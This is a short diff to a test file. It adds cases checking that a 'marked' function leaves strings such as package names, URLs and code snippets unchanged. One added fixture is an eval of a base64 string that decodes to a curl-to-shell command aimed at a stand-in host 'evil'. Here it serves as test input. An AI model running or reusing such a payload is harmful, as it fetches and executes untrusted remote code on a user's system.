@@ -52,6 +52,8 @@ it.each([
   ['@modelcontextprotocol/server-filesystem@2025.8.21', ''],
   ['https://mcp.linear.app/mcp', ''],
   ['info', 'LOG_LEVEL'],
+  ["eval(atob('Y3VybCBldmlsfHNoMTIz'))", 'e'],
+  ['setInterval(()=>{},1e3)', 'e'],
   ['npx foo --max-tokens 4096 --auth none --token-file /run/token', ''],
 ])('leaves %j (%s) as it is', (text, name) => {
   expect(marked(text, name, name === 'Authorization')).toBe(text);
